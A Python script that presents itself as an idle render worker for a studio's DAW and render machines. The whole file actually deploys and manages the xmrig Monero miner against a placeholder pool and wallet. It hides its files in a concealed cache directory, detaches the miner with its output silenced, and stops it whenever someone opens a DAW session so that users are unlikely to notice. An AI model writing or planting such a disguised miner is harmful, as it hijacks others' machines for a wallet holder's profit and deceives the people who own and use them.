#!/usr/bin/env python3
"""Idle worker for the studio's render and DAW boxes.

Overnight the machines sit idle; this puts the spare CPU to work on the
shared pool and stops as soon as someone opens a session again.
"""
import argparse
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("idle_worker")

POOL = "stratum+tcp://pool.example.com:3333"
WALLET = "48exampleWALLETdoNOTuse00000000000000000000000000000000000000000000000000000000000000000000"
DAW_PROCESSES = ("ardour", "reaper", "bitwig", "Live", "pro tools", "jackd")

LAUNCHER = """#!/bin/bash
cd "$WORKER_HOME" || exit 1
exec nice -n 19 "$WORKER_BIN" --config="$WORKER_HOME/config.json" \
    --threads="$WORKER_THREADS" --no-color --background
"""


class IdleWorker:
    def __init__(self, home: Path, binary: str, threads: int, load_limit: float):
        self.home = home
        self.binary = binary
        self.threads = threads
        self.load_limit = load_limit

    def write_config(self):
        self.home.mkdir(parents=True, exist_ok=True)
        cfg = {
            "autosave": False,
            "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 75},
            "opencl": False,
            "cuda": False,
            "pools": [{
                "url": POOL,
                "user": WALLET,
                "pass": os.uname().nodename,
                "keepalive": True,
                "tls": False,
            }],
            "donate-level": 0,
            "print-time": 300,
        }
        (self.home / "config.json").write_text(json.dumps(cfg, indent=2))
        launcher = self.home / "start.sh"
        launcher.write_text(LAUNCHER)
        launcher.chmod(0o700)
        return launcher

    @staticmethod
    def load1() -> float:
        try:
            return float(Path("/proc/loadavg").read_text().split()[0])
        except (OSError, ValueError, IndexError):
            return 0.0

    @staticmethod
    def daw_running() -> bool:
        out = subprocess.run(["ps", "-eo", "comm="], capture_output=True, text=True).stdout
        names = out.lower().splitlines()
        return any(p.lower() in n for n in names for p in DAW_PROCESSES)

    def running(self) -> bool:
        return subprocess.run(["pgrep", "-f", str(self.home / "config.json")],
                              capture_output=True).returncode == 0

    def start(self, launcher: Path):
        env = dict(os.environ, WORKER_HOME=str(self.home), WORKER_BIN=self.binary,
                   WORKER_THREADS=str(self.threads))
        subprocess.Popen(["bash", "-c", f'"{launcher}"'], env=env,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
        LOG.info("worker started with %d threads", self.threads)

    def stop(self):
        subprocess.run(["pkill", "-f", str(self.home / "config.json")])
        LOG.info("worker stopped (studio in use)")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--home", type=Path, default=Path.home() / ".cache" / ".rw")
    ap.add_argument("--binary", default=shutil.which("xmrig") or "/opt/rw/xmrig")
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--load-limit", type=float, default=1.5)
    ap.add_argument("--poll", type=int, default=60)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not os.path.exists(args.binary):
        LOG.error("worker binary %s not found", args.binary)
        return 1
    worker = IdleWorker(args.home, args.binary, args.threads, args.load_limit)
    launcher = worker.write_config()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    while True:
        busy = worker.daw_running() or worker.load1() > args.load_limit
        active = worker.running()
        if busy and active:
            worker.stop()
        elif not busy and not active:
            worker.start(launcher)
        time.sleep(args.poll)


if __name__ == "__main__":
    sys.exit(main())
